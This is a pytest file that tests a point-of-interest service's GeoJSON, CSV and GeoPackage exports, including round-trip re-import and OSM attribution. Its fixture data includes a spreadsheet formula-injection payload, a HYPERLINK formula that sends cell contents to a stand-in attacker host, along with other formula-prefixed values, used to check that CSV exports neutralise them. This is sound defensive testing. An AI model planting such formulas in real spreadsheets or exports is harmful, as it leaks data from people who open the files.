"""Exports to GeoJSON, CSV and GeoPackage: complete, spreadsheet-safe, readable, and importable again."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from pathlib import Path

import geopandas as gpd
import pytest

from poi_service.errors import InvalidInput
from poi_service.geocode import OfflineGeocoder
from poi_service.ingest.export import export_records, guard
from poi_service.ingest.importer import import_file
from poi_service.store import Store, open_store
from tests.conftest import DATA_DIR

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"click")'
PLACES = (
    "name,category,street,housenumber,postcode,locality,phone,description,lat,lon\n"
    f'"{EVIL.replace(chr(34), chr(34) * 2)}",Sonstiges,,,24955,Harrislee,,@SUM(1+1),,\n'
    "Ziegelei Katharinenhof,historic site,,,24955,Harrislee,0461 706-0,-minus,54.801944,9.405556\n"
    "Stolperstein Gustav Schreiber,Stolperstein,Holm,39,,Flensburg,,+plus,,\n"
)
MEMBERS = (
    "name,kind,state,country,alliance,joined,role,source_url\n"
    "Potsdam,Stadt,Brandenburg,DE,buendnis,2019-06,coordinator,https://potsdam.de/x\n"
    "Kreis Plön,Kreis,Schleswig-Holstein,DE,seebruecke_declared,2020,member,https://a.de\n"
    "Palermo,Stadt,,IT,international,,coordinator,https://iash-eu.org\n"
)


@pytest.fixture(scope="module")
def geocoder() -> OfflineGeocoder:
    return OfflineGeocoder(DATA_DIR)


@pytest.fixture()
def store(tmp_path: Path, geocoder: OfflineGeocoder) -> Iterator[Store]:
    s = open_store(str(tmp_path / "export.gpkg"), DATA_DIR)
    (tmp_path / "p.csv").write_text(PLACES, encoding="utf-8")
    (tmp_path / "m.csv").write_text(MEMBERS, encoding="utf-8")
    import_file(s, tmp_path / "p.csv", geocoder)
    import_file(s, tmp_path / "m.csv", geocoder, kind="memberships")
    yield s
    s.close()


def state(store: Store) -> list[tuple[object, ...]]:
    places = [
        (p.id, p.name, p.point, p.geocoding.precision, p.geocoding.source, p.phone, p.description)
        for p in store.places.iter_all()
    ]
    members = [
        (m.id, m.municipality, m.joined, m.joined_precision, m.point, m.geocoding.precision)
        for m in store.memberships.iter_all()
    ]
    return sorted(places, key=str) + sorted(members, key=str)


def test_guard() -> None:
    for text in ("=1+1", "+49", "-2", "@A1", "\tx", "\rx"):
        assert guard(text) == "'" + text
    assert guard("Harrislee") == "Harrislee"
    assert guard(-2.5) == -2.5


def test_geojson(store: Store, tmp_path: Path) -> None:
    out = tmp_path / "out.geojson"
    assert export_records(store, "places", "geojson", out) == 3
    body = json.loads(out.read_text(encoding="utf-8"))
    assert body["type"] == "FeatureCollection" and len(body["features"]) == store.places.count()
    names = {f["properties"]["name"] for f in body["features"]}
    assert EVIL in names  # JSON is not a spreadsheet: no guard
    assert all(f["properties"]["external_key"] for f in body["features"])
    export_records(store, "memberships", "geojson", out)
    assert len(json.loads(out.read_text(encoding="utf-8"))["features"]) == 3


def test_csv_guards_formulas_and_round_trips(store: Store, tmp_path: Path, geocoder: OfflineGeocoder) -> None:
    out = tmp_path / "out.csv"
    assert export_records(store, "places", "csv", out) == 3
    with out.open(encoding="utf-8", newline="") as handle:
        rows = {r["external_key"]: r for r in csv.DictReader(handle)}
    evil = next(r for r in rows.values() if "HYPERLINK" in r["name"])
    assert evil["name"] == "'" + EVIL
    assert evil["description"] == "'@SUM(1+1)"
    brick = next(r for r in rows.values() if r["name"] == "Ziegelei Katharinenhof")
    assert brick["phone"] == "'+494617060" and brick["description"] == "'-minus"
    assert (float(brick["lat"]), float(brick["lon"])) == (54.801944, 9.405556)
    assert brick["wkt"] == "POINT (9.405556 54.801944)"
    assert brick["geocode_precision"] == "exact"
    before = state(store)
    report = import_file(store, out, geocoder)
    # The export re-imports as it was: every row matches its stored record.
    assert (report.new, report.updated, report.unchanged, report.ignored_columns) == (0, 0, 3, ())
    assert state(store) == before  # same ids, names without the guard, precision not upgraded


def test_membership_csv_round_trip(store: Store, tmp_path: Path, geocoder: OfflineGeocoder) -> None:
    out = tmp_path / "members.csv"
    export_records(store, "memberships", "csv", out)
    with out.open(encoding="utf-8", newline="") as handle:
        joined = {r["name"]: r["joined"] for r in csv.DictReader(handle)}
    assert joined == {"Potsdam": "2019-06", "Kreis Plön": "2020", "Palermo": ""}
    before = state(store)
    import_file(store, out, geocoder, kind="memberships")
    assert state(store) == before


def test_geopackage_layers(store: Store, tmp_path: Path, geocoder: OfflineGeocoder) -> None:
    out = tmp_path / "out.gpkg"
    assert export_records(store, "places", "gpkg", out) == 3
    assert export_records(store, "memberships", "gpkg", out) == 3
    places = gpd.read_file(out, layer="places")
    members = gpd.read_file(out, layer="memberships")
    assert places.crs.to_epsg() == 4326 and members.crs.to_epsg() == 4326
    assert len(places) == 3 and len(members) == 3
    brick = places[places["name"] == "Ziegelei Katharinenhof"].iloc[0]
    assert (brick.geometry.x, brick.geometry.y) == (9.405556, 54.801944)
    assert EVIL in set(places["name"])
    assert export_records(store, "places", "gpkg", out) == 3  # replaces the layer
    assert len(gpd.read_file(out, layer="places")) == 3
    before = state(store)
    assert import_file(store, out, geocoder).unchanged == 3  # the layer named like the kind
    assert import_file(store, out, geocoder, kind="memberships").unchanged == 3
    assert state(store) == before


def test_export_never_overwrites_the_store(store: Store, tmp_path: Path) -> None:
    with pytest.raises(InvalidInput, match="store itself"):
        export_records(store, "places", "gpkg", tmp_path / "export.gpkg")
    assert store.places.count() == 3


@pytest.mark.parametrize("fmt", ["csv", "geojson", "gpkg"])
def test_osm_fields_round_trip(store: Store, tmp_path: Path, geocoder: OfflineGeocoder, fmt: str) -> None:
    import dataclasses

    brick = next(p for p in store.places.iter_all() if p.name == "Ziegelei Katharinenhof")
    osm = dataclasses.replace(
        brick,
        opening_hours="Mo-Su 09:00-02:00",
        wheelchair="yes",
        names=(("da", "Teglværk"), ("en", "Brickworks")),
        osm_version=3,
        osm_timestamp="2023-02-01T00:00:00Z",
    )
    store.places.update(brick.id, osm)
    fields = ("opening_hours", "wheelchair", "names", "osm_version", "osm_timestamp")
    before = [tuple(getattr(p, f) for f in fields) for p in store.places.iter_all()]
    out = tmp_path / f"osm.{fmt}"
    export_records(store, "places", fmt, out)  # type: ignore[arg-type]
    report = import_file(store, out, geocoder)
    assert (report.updated, report.unchanged, report.ignored_columns) == (0, 3, ())
    assert [tuple(getattr(p, f) for f in fields) for p in store.places.iter_all()] == before


def test_exports_with_osm_records_carry_the_odbl_attribution(store: Store, tmp_path: Path) -> None:
    import dataclasses
    import sqlite3

    from poi_service.attribution import OSM_ATTRIBUTION

    out = tmp_path / "plain.geojson"
    export_records(store, "places", "geojson", out)
    assert "attribution" not in json.loads(out.read_text(encoding="utf-8"))
    brick = next(p for p in store.places.iter_all() if p.name == "Ziegelei Katharinenhof")
    store.places.update(brick.id, dataclasses.replace(brick, external_key="osm:node/1"))
    out = tmp_path / "osm.geojson"
    export_records(store, "places", "geojson", out)
    assert json.loads(out.read_text(encoding="utf-8"))["attribution"] == OSM_ATTRIBUTION
    gpkg = tmp_path / "osm.gpkg"
    export_records(store, "places", "gpkg", gpkg)
    with sqlite3.connect(gpkg) as con:
        row = con.execute("SELECT description FROM gpkg_contents WHERE table_name = 'places'").fetchone()
    assert row[0] == OSM_ATTRIBUTION
